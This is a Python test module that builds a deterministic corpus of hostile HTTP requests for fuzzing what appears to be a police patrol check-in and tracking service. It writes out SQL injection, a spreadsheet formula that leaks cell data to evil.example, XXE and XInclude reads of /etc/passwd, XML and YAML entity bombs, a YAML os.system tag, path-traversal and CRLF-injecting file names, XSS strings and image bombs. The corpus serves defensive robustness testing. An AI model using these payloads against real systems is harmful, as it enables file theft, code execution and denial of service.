"""The hostile corpus: files and requests meant to break the service, generated (deterministically)
rather than stored, so the repository keeps the recipe and not the bytes.

Each `Hostile` is one HTTP request: broken and bombed photos, tracks that lie about their encoding or
hide entities, JSON nested or numbered beyond reason, coordinates that are not places, file names
that are paths or hold NUL, SQL and spreadsheet formulas and over-long text in every field, odd
query strings, headers and forms. `tests/hostile/test_hostile_corpus.py` sends each through HTTP.

    python -m tests.hostile.corpus OUT_DIR     # writes the corpus to look at (one file per request)

Placeholders in paths and bodies ({shift}, {flag}, {check}, {device}, {csrf}) are filled in by the
test from the world it builds.
"""
from __future__ import annotations

import json
import random
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

from tests.photos import (
    exif_bytes,
    make_bomb_jpeg,
    make_gif,
    make_heic,
    make_jpeg,
    make_png,
    make_webp,
    picture,
)

BOUNDARY = "hostile-7a1c"
LAT, LON = 45.7760, 126.6180   # the centre of DL-G1 in the test world
SQL = "'; DROP TABLE flag; --"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")'
LONG = "长" * 20_000
HOSTILE_STRINGS = {"sql": SQL, "formula": FORMULA, "long": LONG, "rtl": "\u202egpj.exe", "nul": "a\u0000b",
                   "path": "../../../../etc/passwd", "html": "<script>alert(1)</script>", "empty": "",
                   "emoji": "👮" * 50, "crlf": "a\r\nSet-Cookie: x=1"}


@dataclass(frozen=True)
class Hostile:
    """One hostile request. `user` is whose bearer token (or, with `web`, browser session) it carries."""

    id: str
    method: str
    path: str
    user: str | None = None
    body: bytes = b""
    content_type: str | None = None
    headers: tuple[tuple[str, str], ...] = ()
    web: bool = False
    raw: bool = False            # `body` is the whole HTTP request, sent as it is on a socket
    files: dict = field(default_factory=dict, compare=False, hash=False)


def multipart(fields: dict[str, str] | None = None, files: list[tuple[str, bytes | str, bytes]] | None = None) -> bytes:
    """A multipart/form-data body; file names are raw (they may hold NUL, CRLF or path tricks)."""
    parts = []
    for name, value in (fields or {}).items():
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
                     + value.encode("utf-8", "surrogatepass") + b"\r\n")
    for name, filename, data in files or []:
        raw_name = filename if isinstance(filename, bytes) else filename.encode("utf-8")
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"; filename="'.encode()
                     + raw_name + b'"\r\nContent-Type: application/octet-stream\r\n\r\n' + data + b"\r\n")
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()


MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"
JSON = "application/json"


def sign_in(id_: str, photo: bytes, filename: bytes | str = "selfie.jpg", **fields: str) -> Hostile:
    return Hostile(f"photo/{id_}", "POST", "/api/v1/checkins", "dl1",
                   multipart(fields, [("photo", filename, photo)]), MULTIPART)


def track(id_: str, data: bytes, filename: bytes | str = "track.gpx") -> Hostile:
    return Hostile(f"track/{id_}", "POST", "/api/v1/tracks?officer=HRB-DL-0001", "admin",
                   multipart(None, [("file", filename, data)]), MULTIPART)


def post_json(id_: str, path: str, body: bytes | dict | list, user: str | None = "admin") -> Hostile:
    data = body if isinstance(body, bytes) else json.dumps(body, ensure_ascii=False).encode()
    return Hostile(f"json/{id_}", "POST", path, user, data, JSON)


def flipped(data: bytes, seed: int, flips: int) -> bytes:
    rng = random.Random(seed)
    out = bytearray(data)
    for _ in range(flips):
        out[rng.randrange(len(out))] ^= 1 << rng.randrange(8)
    return bytes(out)


# ---------------------------------------------------------------- photos


def photos() -> Iterator[Hostile]:
    now = datetime.now(UTC)
    good = make_jpeg(lat=LAT, lon=LON, gps_utc=now - timedelta(seconds=20), seed=31, size=(480, 360))
    plain = make_jpeg(seed=32, size=(480, 360))
    heic = make_heic(lat=LAT, lon=LON, seed=33, size=(160, 120))
    for keep in (0.02, 0.1, 0.25, 0.4, 0.5, 0.6, 0.75, 0.9, 0.97, 0.995):
        cut = good[: int(len(good) * keep)]
        yield sign_in(f"jpeg-cut-{keep}", cut)
        yield sign_in(f"jpeg-cut-{keep}-closed", cut + b"\xff\xd9")
    for keep in (0.3, 0.8):
        yield sign_in(f"jpeg-cut-{keep}-zeros", good[: int(len(good) * keep)] + b"\x00" * 4096)
    for seed in range(16):
        yield sign_in(f"jpeg-bitflip-{seed}", flipped(plain, seed, 1 + seed % 6))
    for keep in (0.05, 0.3, 0.6, 0.9):
        yield sign_in(f"heic-cut-{keep}", heic[: int(len(heic) * keep)], "selfie.heic")
    for seed in range(6):
        yield sign_in(f"heic-bitflip-{seed}", flipped(heic, seed, 1 + seed), "selfie.heic")
    yield sign_in("bomb-jpeg-65500", make_bomb_jpeg(65_500, 65_500))
    yield sign_in("bomb-jpeg-30000", make_bomb_jpeg())
    yield sign_in("bomb-png", _png_bomb())
    yield from _exif_oddities(now)
    for name, data in (("png", make_png()), ("webp", make_webp()), ("gif", make_gif()), ("empty", b""),
                       ("pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF"), ("html", b"<html><script>1</script></html>"),
                       ("svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
                       ("zip", b"PK\x03\x04" + b"\x00" * 60), ("elf", b"\x7fELF" + b"\x00" * 60),
                       ("soi-only", b"\xff\xd8"), ("soi-eoi", b"\xff\xd8\xff\xd9"), ("tiff", _tiff()),
                       ("heic-brand-only", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic")):
        yield sign_in(f"not-a-photo-{name}", data)
    for name, value in (("nan", "NaN"), ("inf", "Infinity"), ("huge", "1e999"), ("lat-91", "91"),
                        ("digits", "9" * 5000), ("sql", SQL), ("formula", FORMULA), ("empty", "")):
        yield sign_in(f"device-lat-{name}", plain, device_lat=value, device_lon=str(LON))
    for name, fields in (("accuracy-negative", {"device_accuracy_m": "-5"}),
                         ("fix-time-year-1", {"device_fix_time": "0001-01-01T00:00:00Z"}),
                         ("fix-time-year-9999", {"device_fix_time": "9999-12-31T23:59:59+14:00"}),
                         ("fix-time-garbage", {"device_fix_time": FORMULA}),
                         ("shift-huge", {"shift_id": "9" * 30}), ("shift-negative", {"shift_id": "-1"}),
                         ("shift-sql", {"shift_id": SQL}), ("mock-odd", {"device_mock": "maybe"}),
                         ("unknown-fields", {"x" * 1000: LONG[:1000], "extra": SQL})):
        yield sign_in(f"form-{name}", plain, **fields)
    for name, filename in (("path", "../../../../etc/passwd"), ("nul", b"selfie\x00.jpg"),
                           ("crlf", b"a.jpg\r\nX-Evil: 1"), ("long", "照" * 2000 + ".jpg"), ("rtl", "\u202egpj.exe"),
                           ("empty", ""), ("quote", 'a".jpg'), ("windows", "C:\\Windows\\system32\\a.jpg")):
        yield sign_in(f"filename-{name}", make_jpeg(seed=40 + len(name), size=(64, 48)), filename)
    yield Hostile("photo/no-photo-part", "POST", "/api/v1/checkins", "dl1", multipart({"shift_id": "1"}), MULTIPART)
    yield Hostile("photo/two-photo-parts", "POST", "/api/v1/checkins", "dl1",
                  multipart(None, [("photo", "a.jpg", plain), ("photo", "b.jpg", b"junk")]), MULTIPART)
    yield Hostile("photo/boundary-missing", "POST", "/api/v1/checkins", "dl1", multipart(None, [("photo", "a", plain)]),
                  "multipart/form-data")
    yield Hostile("photo/unclosed-multipart", "POST", "/api/v1/checkins", "dl1",
                  multipart(None, [("photo", "a.jpg", plain)])[:-40], MULTIPART)
    yield Hostile("photo/as-json", "POST", "/api/v1/checkins", "dl1", json.dumps({"photo": "AAAA"}).encode(), JSON)


def _exif_oddities(now: datetime) -> Iterator[Hostile]:
    odd_gps = {
        "zero-denominator": {2: ((45, 0), (46, 1), (0, 1)), 1: b"N", 4: ((126, 1), (37, 0), (0, 1)), 3: b"E"},
        "zero-over-zero": {2: ((0, 0), (0, 0), (0, 0)), 1: b"N", 4: ((0, 0), (0, 0), (0, 0)), 3: b"E"},
        "huge-rationals": {2: ((2**32 - 1, 1), (2**32 - 1, 1), (2**32 - 1, 1)), 1: b"N",
                           4: ((2**32 - 1, 1), (0, 1), (0, 1)), 3: b"E"},
        "latitude-95": {2: ((95, 1), (0, 1), (0, 1)), 1: b"N", 4: ((126, 1), (0, 1), (0, 1)), 3: b"E"},
        "longitude-200": {2: ((45, 1), (0, 1), (0, 1)), 1: b"N", 4: ((200, 1), (0, 1), (0, 1)), 3: b"E"},
        "ref-q": {2: ((45, 1), (46, 1), (0, 1)), 1: b"Q", 4: ((126, 1), (37, 1), (0, 1)), 3: b"Z"},
        "one-component": {2: ((45, 1),), 1: b"N", 4: ((126, 1),), 3: b"E"},
        "accuracy-zero-denominator": {2: ((45, 1), (46, 1), (0, 1)), 1: b"N", 4: ((126, 1), (37, 1), (0, 1)),
                                      3: b"E", 31: (5, 0)},
    }
    for name, gps in odd_gps.items():
        yield sign_in(f"exif-gps-{name}", make_jpeg(seed=50, size=(96, 64), raw_gps_rationals=gps))
    for name, options in (("date-year-0", {"taken_local": "0000:00:00 00:00:00"}),
                          ("date-year-9999", {"taken_local": "9999:12:31 23:59:59", "offset": "+14:00"}),
                          ("date-garbage", {"taken_local": "2026:13:45 25:61:61"}),
                          ("date-future", {"taken_local": (now + timedelta(days=2)).strftime("%Y:%m:%d %H:%M:%S"),
                                           "offset": "+00:00"}),
                          ("offset-99", {"taken_local": "2026:11:26 09:00:00", "offset": "+99:99"}),
                          ("make-formula", {"make": FORMULA, "model": SQL}),
                          ("make-long", {"make": "M" * 5000, "model": "N" * 5000}),
                          ("make-nul", {"make": "Can\x00on", "model": "\x00"}),
                          ("subsec-junk", {"taken_local": "2026:11:26 09:00:00", "subsec": "9" * 50})):
        yield sign_in(f"exif-{name}", make_jpeg(seed=51, size=(96, 64), **options))
    broken_exif = bytearray(make_jpeg(seed=52, size=(96, 64), lat=LAT, lon=LON))
    at = broken_exif.find(b"Exif\x00\x00")
    broken_exif[at + 10: at + 14] = b"\xff\xff\xff\x7f"   # the first IFD's offset points far past the file
    yield sign_in("exif-ifd-offset-beyond", bytes(broken_exif))
    yield sign_in("exif-block-only", b"\xff\xd8\xff\xe1\xff\xff" + exif_bytes(lat=LAT, lon=LON) + b"\xff\xd9")


def _png_bomb() -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 60_001 * 4)) + \
        chunk(b"IEND", b"")


def _tiff() -> bytes:
    import io

    out = io.BytesIO()
    picture((32, 24), 3).save(out, format="TIFF")
    return out.getvalue()


# ---------------------------------------------------------------- tracks


def _gpx(points: str, head: str = '<?xml version="1.0" encoding="UTF-8"?>', root_attrs: str = "") -> bytes:
    return (f'{head}\n<gpx version="1.1" creator="hostile" xmlns="http://www.topografix.com/GPX/1/1"{root_attrs}>'
            f"<trk><trkseg>{points}</trkseg></trk></gpx>").encode("utf-8", "surrogatepass")


def _points(n: int = 20, *, lat: str | None = None, lon: str | None = None, time: str | None = None) -> str:
    start = datetime.now(UTC) - timedelta(minutes=30)
    return "".join(
        f'<trkpt lat="{lat if lat is not None else LAT + i * 1e-5}" lon="{lon if lon is not None else LON}">'
        f"<time>{time if time is not None else (start + timedelta(seconds=10 * i)).strftime('%Y-%m-%dT%H:%M:%SZ')}"
        "</time></trkpt>" for i in range(n))


def _csv(rows: list[str], header: str = "time,lat,lon,accuracy") -> bytes:
    return "\n".join([header, *rows]).encode("utf-8", "surrogatepass")


def _csv_rows(n: int = 10) -> list[str]:
    start = datetime.now(UTC) - timedelta(minutes=20)
    return [f"{(start + timedelta(seconds=10 * i)).isoformat()},{LAT + i * 1e-5},{LON},5" for i in range(n)]


def tracks() -> Iterator[Hostile]:
    good = _gpx(_points())
    yield from _xml_tricks(good)
    for encoding in ("bogus", "zlib", "rot13", "base64", "hex", "bz2", "x-unknown", "utf\x00", "UTF-7", "idna",
                     "unicode_escape", "undefined", "utf-32", "UTF-16"):
        yield track(f"gpx-encoding-{encoding.replace(chr(0), 'NUL')}",
                    good.replace(b'encoding="UTF-8"', f'encoding="{encoding}"'.encode()))
    yield track("gpx-gbk-declared-utf8", _gpx(_points(3)).replace(b"hostile", "哈尔滨".encode("gbk")))
    yield track("gpx-utf16-with-bom", good.decode().replace("UTF-8", "UTF-16").encode("utf-16"))
    for name, (lat, lon) in {"nan": ("NaN", "NaN"), "inf": ("Infinity", "-Infinity"), "huge": ("1e999", "1e999"),
                             "lat-91": ("91", str(LON)), "lon-181": (str(LAT), "181"), "hex": ("0x1A", "0x7E"),
                             "empty": ("", ""), "undefined": ("undefined", "undefined"), "sql": (SQL, SQL),
                             "digits": ("9" * 5000, "1" * 5000)}.items():
        yield track(f"gpx-coordinates-{name}", _gpx(_points(5, lat=lat, lon=lon)))
    for name, time in {"year-1": "0001-01-01T00:00:00Z", "year-9999": "9999-12-31T23:59:59Z", "1901": "1901-12-13T20:45:52Z",
                       "garbage": FORMULA, "long": "2" * 20_000, "epoch-ms": "1764201600000", "no-zone": "2026-11-26T09:00:00",
                       "offset-15h": "2026-11-26T09:00:00+15:00", "leap-61": "2026-11-26T09:00:61Z"}.items():
        yield track(f"gpx-time-{name}", _gpx(_points(5, time=time)))
    yield track("gpx-deep-elements", _gpx("<extensions>" * 20_000 + "</extensions>" * 20_000 + _points(3)))
    yield track("gpx-huge-attribute", _gpx(_points(3), root_attrs=f' x="{"a" * 500_000}"'))
    yield track("gpx-cut-mid-tag", good[: len(good) // 2])
    yield track("gpx-only-waypoints", _gpx("").replace(b"<trk>", b'<wpt lat="45.7" lon="126.6"><time>2026-11-26T00:00:00Z'
                                                                 b"</time></wpt><trk>"))
    yield track("gpx-nul-inside", good.replace(b"<trkseg>", b"<trkseg>\x00"))
    yield track("gpx-root-not-gpx", b'<?xml version="1.0"?><kml><Placemark/></kml>')
    yield track("gpx-svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    for seed in range(8):
        yield track(f"gpx-bitflip-{seed}", flipped(good, seed, 2 + seed))
    yield from _geojson_tracks()
    yield from _csv_tracks()
    for name, filename in (("nul", b"track\x00.gpx"), ("path", "../../../etc/passwd"), ("long", "轨" * 400 + ".gpx"),
                           ("crlf", b"t.gpx\r\nX-Evil: 1"), ("formula", FORMULA + ".csv"), ("empty", "")):
        yield track(f"filename-{name}", good, filename)
    for name, data in (("empty", b""), ("bom-only", b"\xef\xbb\xbf"), ("whitespace", b" \n\t\r\n" * 100),
                       ("binary", bytes(range(256)) * 8), ("jpeg", make_jpeg(seed=60, size=(32, 24)))):
        yield track(f"not-a-track-{name}", data)
    yield Hostile("track/no-file-part", "POST", "/api/v1/tracks?officer=HRB-DL-0001", "admin", multipart({"x": "y"}),
                  MULTIPART)
    yield Hostile("track/officer-sql", "POST", f"/api/v1/tracks?officer={_q(SQL)}", "admin",
                  multipart(None, [("file", "t.gpx", good)]), MULTIPART)


def _xml_tricks(good: bytes) -> Iterator[Hostile]:
    body = good.split(b"?>", 1)[1]
    head = b'<?xml version="1.0" encoding="UTF-8"?>\n'
    tricks = {
        "xxe-file": b'<!DOCTYPE gpx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        "xxe-http": b'<!DOCTYPE gpx [<!ENTITY xxe SYSTEM "http://127.0.0.1:1/x">]>',
        "xxe-parameter": b'<!DOCTYPE gpx [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>',
        "external-dtd": b'<!DOCTYPE gpx SYSTEM "http://127.0.0.1:1/gpx.dtd">',
        "billion-laughs": b'<!DOCTYPE gpx [<!ENTITY a "aaaaaaaaaa">' + b"".join(
            f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'.encode() for i in range(9)) + b"]>",
        "quadratic-blowup": b'<!DOCTYPE gpx [<!ENTITY a "' + b"a" * 50_000 + b'">]>',
        "internal-entity": b'<!DOCTYPE gpx [<!ENTITY n "45.7">]>',
    }
    for name, doctype in tricks.items():
        use = b"&xxe;" if "xxe" in name else b"&j;" if name == "billion-laughs" else b"&a;&a;&a;" if "quadratic" in name \
            else b"&n;"
        yield track(f"gpx-{name}", head + doctype + body.replace(b"<trkseg>", b"<trkseg><name>" + use + b"</name>", 1))
    yield track("gpx-xinclude", head + body.replace(b"<trkseg>", b'<trkseg><xi:include xmlns:xi="http://www.w3.org/2001/'
                                                                 b'XInclude" href="file:///etc/passwd"/>', 1))
    yield track("gpx-cdata-points", head + body.replace(b"<trkseg>", b"<trkseg><![CDATA[<trkpt lat='1' lon='2'>]]>", 1))
    yield track("gpx-comment-points", head + body.replace(b"<trkseg>", b"<trkseg><!-- <trkpt lat='1' lon='2'> -->", 1))


def _geojson_tracks() -> Iterator[Hostile]:
    start = datetime.now(UTC) - timedelta(minutes=20)
    times = [(start + timedelta(seconds=10 * i)).isoformat() for i in range(10)]
    line = [[LON, LAT + i * 1e-5] for i in range(10)]
    feature = {"type": "Feature", "geometry": {"type": "LineString", "coordinates": line},
               "properties": {"coordTimes": times}}

    def gj(name: str, doc) -> Hostile:
        return track(f"geojson-{name}", doc if isinstance(doc, bytes) else json.dumps(doc).encode(), "t.geojson")

    yield gj("deep-arrays", b'{"type": "Feature", "geometry": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    yield gj("deep-objects", b'{"a":' * 60_000 + b"1" + b"}" * 60_000)
    yield gj("huge-integer", json.dumps(feature).replace(str(LON), "9" * 100_000, 1).encode())
    yield gj("nan-literals", json.dumps(feature).replace(str(LON), "NaN").encode())
    yield gj("infinity", json.dumps(feature).replace(str(LON), "Infinity").encode())
    yield gj("exponent-999", json.dumps(feature).replace(str(LON), "1e999").encode())
    yield gj("strings-as-coordinates", {**feature, "geometry": {"type": "LineString",
                                                                 "coordinates": [[SQL, FORMULA]] * 3}})
    yield gj("coordinates-nested-wrong", {**feature, "geometry": {"type": "LineString", "coordinates": [[[[1]]]]}})
    yield gj("geometry-collections-deep", {"type": "Feature", "properties": {}, "geometry": _collections(50)})
    yield gj("null-geometry", {"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": None}] * 5})
    yield gj("properties-long", {**feature, "properties": {"coordTimes": times, "name": LONG}})
    yield gj("times-garbage", {**feature, "properties": {"coordTimes": [FORMULA] * 10}})
    yield gj("out-of-range", {**feature, "geometry": {"type": "LineString", "coordinates": [[500, -300]] * 10}})
    yield gj("not-utf8", b'{"type": "Feature", "name": "\xff\xfe\xfd"}')
    yield gj("top-level-array", [1, 2, 3])
    yield gj("unclosed", json.dumps(feature).encode()[:-30])


def _collections(depth: int) -> dict:
    geometry: dict = {"type": "Point", "coordinates": [LON, LAT]}
    for _ in range(depth):
        geometry = {"type": "GeometryCollection", "geometries": [geometry]}
    return geometry


def _csv_tracks() -> Iterator[Hostile]:
    rows = _csv_rows()

    def csv(name: str, data: bytes) -> Hostile:
        return track(f"csv-{name}", data, "t.csv")

    yield csv("field-over-limit", _csv([rows[0] + "," + "1" * 140_000]))
    yield csv("line-of-a-megabyte", _csv(rows[:2] + ["x" * 1_000_000]))
    yield csv("ten-thousand-columns", _csv(rows[:3], header="time,lat,lon," + ",".join(f"c{i}" for i in range(10_000))))
    yield csv("formulas", _csv([f"{FORMULA},{FORMULA},{FORMULA},{FORMULA}"] * 3 + rows[:3]))
    yield csv("sql", _csv([f"{SQL},{SQL},{SQL},{SQL}"] + rows[:3]))
    yield csv("unbalanced-quotes", _csv(['"2026-11-26T09:00:00,45.7,126.6', *rows[:3]]))
    yield csv("nul-in-the-middle", _csv(rows[:3] + ["\x00\x00\x00"] + rows[3:]))
    yield csv("gbk", ("时间,纬度,经度\n" + "\n".join(rows)).encode("gb18030"))
    yield csv("utf16-without-bom", "\n".join(["time,lat,lon", *rows]).encode("utf-16-le"))
    yield csv("header-only", b"time,lat,lon\n")
    yield csv("no-header", "\n".join(rows).encode())
    yield csv("nan-and-inf", _csv(["2026-11-26T09:00:00,NaN,inf,-inf", "2026-11-26T09:00:10,1e999,-1e999,1e999"]))
    yield csv("out-of-range", _csv(["2026-11-26T09:00:00,95,200,5"] * 3))
    yield csv("negative-accuracy", _csv([r.rsplit(",", 1)[0] + ",-50" for r in rows]))
    yield csv("times-garbage", _csv(["9999-99-99T99:99:99,45.7,126.6,5", "0,45.7,126.6,5", f"{2**70},45.7,126.6,5"]))
    yield csv("semicolon", _csv([r.replace(",", ";") for r in rows], header="time;lat;lon;accuracy"))


# ---------------------------------------------------------------- JSON doors


DEEP = b"[" * 100_000 + b"]" * 100_000
HUGE = b'{"x": ' + b"9" * 100_000 + b"}"
JSON_DOORS = {
    "token": ("/api/v1/auth/token", None, {"username": "admin", "password": "x"}),
    "districts": ("/api/v1/districts", "admin", {"code": "HL", "name": "呼兰", "name_en": "Hulan"}),
    "officers": ("/api/v1/officers", "admin", {"badge_no": "HRB-DL-0777", "name": "张三", "district": "DL",
                                               "squad": "DL-S1", "username": "dl777", "role": "officer"}),
    "posts": ("/api/v1/posts", "admin", {"code": "DL-P7", "name": "校门", "district": "DL", "lat": LAT, "lon": LON,
                                         "radius_m": 40}),
    "devices": ("/api/v1/devices", "admin", {"officer": "HRB-DL-0001", "label": "phone"}),
    "shifts": ("/api/v1/shifts", "admin", {"officer": "HRB-DL-0002", "start": "2026-11-20T08:00:00+08:00",
                                           "end": "2026-11-20T16:00:00+08:00", "kind": "patrol", "grid": "DL-G1"}),
    "grids": ("/api/v1/grids", "admin", {"type": "Feature", "properties": {"code": "DL-G7", "district": "DL",
                                                                           "name": "中央大街"},
                                         "geometry": {"type": "Polygon", "coordinates": [[
                                             [LON, LAT], [LON + .002, LAT], [LON + .002, LAT + .002], [LON, LAT]]]}}),
    "positions": ("/api/v1/positions?officer=HRB-DL-0001", "admin",
                  [{"time": "2026-11-26T09:00:00+08:00", "lat": LAT, "lon": LON, "accuracy": 5}]),
    "checks": ("/api/v1/checks/run", "admin", {"at": "2026-11-26T12:00:00+08:00"}),
    "decision": ("/api/v1/flags/{flag}/decision", "mgr-dl", {"decision": "confirm", "reason": "checked it"}),
    "appeal": ("/api/v1/flags/{flag}/appeal", "dl1", {"reason": "I was on post"}),
    "replay": ("/api/v1/regulation/replay", "mgr-dl", {"document": "version_label: t", "from": "2026-11-26T00:00:00",
                                                       "to": "2026-11-27T00:00:00"}),
    "rounds": ("/api/v1/inspection-rounds", "city", {"date": "2026-11-26", "kind": "cross_district", "seed": 1}),
}


def json_bodies() -> Iterator[Hostile]:
    for door, (path, user, valid) in JSON_DOORS.items():
        for name, body in (("deep", DEEP), ("huge-number", HUGE), ("nan", b'{"x": NaN}'), ("inf", b"[1e999]"),
                           ("not-utf8", b'{"x": "\xff\xfe"}'), ("bom", b"\xef\xbb\xbf" + json.dumps(valid).encode()),
                           ("null", b"null"), ("array", b"[]"), ("empty", b""), ("string", b'"x"'),
                           ("nul-escape", b'{"x": "\\u0000"}')):
            yield post_json(f"{door}/{name}", path, body, user)
        if isinstance(valid, dict):
            yield from _hostile_fields(door, path, user, valid)


def _hostile_fields(door: str, path: str, user: str | None, valid: dict) -> Iterator[Hostile]:
    for key, value in valid.items():
        if isinstance(value, str):
            for kind in ("long", "sql", "formula"):
                yield post_json(f"{door}/{key}-{kind}", path, {**valid, key: HOSTILE_STRINGS[kind]}, user)
        elif isinstance(value, int | float) and not isinstance(value, bool):
            yield post_json(f"{door}/{key}-huge", path, {**valid, key: 10**40}, user)
            yield post_json(f"{door}/{key}-string", path, {**valid, key: "1e999"}, user)
        yield post_json(f"{door}/{key}-object", path, {**valid, key: {"$gt": ""}}, user)


# ---------------------------------------------------------------- OsmAnd, grids, regulation, queries


def osmand() -> Iterator[Hostile]:
    fine = {"id": "{device}", "lat": str(LAT), "lon": str(LON), "timestamp": "{now}"}
    for name, (key, value) in (("lat-nan", ("lat", "NaN")), ("lat-huge", ("lat", "1e999")), ("lat-91", ("lat", "91")),
                               ("lon-181", ("lon", "-181")), ("timestamp-huge", ("timestamp", "1e30")),
                               ("timestamp-negative", ("timestamp", "-1")),
                               ("timestamp-year-9999", ("timestamp", "9999-12-31T23:59:59Z")),
                               ("timestamp-garbage", ("timestamp", FORMULA)), ("accuracy-negative", ("accuracy", "-5")),
                               ("speed-negative", ("speed", "-1")), ("battery-huge", ("batt", "1e300")),
                               ("bearing-nan", ("bearing", "nan")), ("lat-digits", ("lat", "9" * 5000)),
                               ("mock", ("mock", "true"))):
        query = "&".join(f"{k}={v if v.startswith('{') else _q(v)}" for k, v in {**fine, key: value}.items())
        yield Hostile(f"osmand/{name}", "GET", f"/osmand?{query}")
    yield Hostile("osmand/repeated", "GET", f"/osmand?id={{device}}&lat=1&lat=2&lat=3&lon={LON}&timestamp={{now}}")
    for name, device in (("id-long", "x" * 10_000), ("id-sql", SQL), ("id-formula", FORMULA), ("id-empty", "")):
        yield Hostile(f"osmand/{name}", "GET", f"/osmand?id={_q(device)}&lat={LAT}&lon={LON}")
    for name, body in (("deep", DEEP), ("huge", b'{"device_id": "{device}", "location": {"coords": {"latitude": '
                                                b"1" + b"0" * 400 + b', "longitude": 1}}}'),
                       ("location-string", b'{"device_id": "{device}", "location": "here"}'),
                       ("coords-strings", (b'{"device_id": "{device}", "location": {"coords": {"latitude": "x", '
                                          b'"longitude": "y"}}}')),
                       ("device-array", b'{"device_id": [1, 2], "location": {}}'),
                       ("device-object", b'{"device_id": {"$ne": null}}'),
                       ("timestamp-object", (b'{"device_id": "{device}", "location": {"timestamp": {}, "coords": '
                                            b'{"latitude": 45.7, "longitude": 126.6}}}')),
                       ("not-an-object", b"[1, 2, 3]")):
        yield Hostile(f"osmand/json-{name}", "POST", "/osmand", None, body, JSON)


def grids() -> Iterator[Hostile]:
    def grid(name: str, properties: dict | None = None, coordinates=None, query: str = "") -> Hostile:
        ring = [[LON, LAT], [LON + .002, LAT], [LON + .002, LAT + .002], [LON, LAT + .002], [LON, LAT]]
        feature = {"type": "Feature", "properties": {"code": f"DL-H-{name[:20]}", "district": "DL", **(properties or {})},
                   "geometry": {"type": "Polygon", "coordinates": coordinates if coordinates is not None else [ring]}}
        return post_json(f"grid/{name}", "/api/v1/grids" + query, feature)

    yield grid("code-long", {"code": "G" * 1000})
    yield grid("name-long", {"name": LONG})
    yield grid("code-sql", {"code": SQL})
    yield grid("name-formula", {"name": FORMULA})
    yield grid("district-unknown", {"district": SQL})
    yield grid("parent-self", {"parent": "DL-H-parent-self"})
    yield grid("level-odd", {"level": "universe"})
    yield grid("ring-open", coordinates=[[[LON, LAT], [LON + .002, LAT], [LON, LAT + .002]]])
    yield grid("one-point", coordinates=[[[LON, LAT]]])
    yield grid("bow-tie", coordinates=[[[LON, LAT], [LON + .002, LAT + .002], [LON + .002, LAT], [LON, LAT + .002],
                                        [LON, LAT]]])
    yield grid("out-of-range", coordinates=[[[500, 95], [501, 95], [501, 96], [500, 95]]])
    yield grid("across-the-world", coordinates=[[[-179, 0], [179, 0], [179, 1], [-179, 0]]])
    yield grid("strings", coordinates=[[["a", "b"], ["c", "d"], ["e", "f"], ["a", "b"]]])
    yield grid("datum-bogus", query="?datum=" + _q(SQL))
    yield grid("ten-thousand-vertices", coordinates=[[[LON + i * 1e-7, LAT + (i % 2) * 1e-4] for i in range(10_000)]
                                                     + [[LON, LAT]]])
    yield post_json("grid/feature-collection-empty", "/api/v1/grids", {"type": "FeatureCollection", "features": []})


def regulation() -> Iterator[Hostile]:
    from supervise.regulation import default_regulation_text

    text = default_regulation_text()

    def put(name: str, body: str | bytes, content_type: str = "application/yaml") -> Hostile:
        data = body if isinstance(body, bytes) else body.encode("utf-8", "surrogatepass")
        return Hostile(f"regulation/{name}", "PUT", "/api/v1/regulation", "admin", data, content_type)

    laughs = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 9) + "]\n" for i in range(8))
    yield put("billion-laughs", "version_label: t\n" + laughs)
    yield put("deep-nesting", "version_label: t\nrules: " + "[" * 50_000 + "]" * 50_000)
    yield put("alias-in-own-anchor", "version_label: t\nrules: &r {LATE: *r}")
    yield put("grace-ten-billion", text.replace("grace_min: 5", "grace_min: 10000000000"))
    yield put("grace-400-digits", text.replace("grace_min: 5", "grace_min: " + "9" * 400))
    yield put("grace-negative", text.replace("grace_min: 5", "grace_min: -5"))
    yield put("grace-nan", text.replace("grace_min: 5", "grace_min: .nan"))
    yield put("grace-inf", text.replace("grace_min: 5", "grace_min: .inf"))
    yield put("radius-zero", text.replace("radius_m: 30", "radius_m: 0"))
    yield put("speed-zero", text.replace("max_speed_kmh: 50", "max_speed_kmh: 0"))
    yield put("phash-64", text.replace("max_phash_distance: 6", "max_phash_distance: 64"))
    yield put("label-long", text.replace('version_label: "2026 默认 / 2026 default"', f'version_label: "{"标" * 1000}"'))
    yield put("label-formula", text.replace('"2026 默认 / 2026 default"', json.dumps(FORMULA)))
    yield put("date-impossible", text.replace("from: 2025-02-01", "from: 2025-13-01"))
    yield put("period-backwards", text.replace("to: 2025-02-15", "to: 2024-02-15"))
    yield put("unknown-rule", text + "\n  EXTRA_RULE: {params: {x: 1}}\n")
    yield put("not-a-mapping", "- a\n- b\n")
    yield put("binary", bytes(range(256)) * 4)
    yield put("not-utf8", b"version_label: \xff\xfe\n")
    yield put("python-tag", "version_label: !!python/object/apply:os.system ['true']\n")
    yield put("too-long", "version_label: t\n#" + "x" * 1_100_000)
    yield put("json-deep", b'{"version_label": "t", "rules": ' + b"[" * 10_000 + b"]" * 10_000 + b"}", JSON)
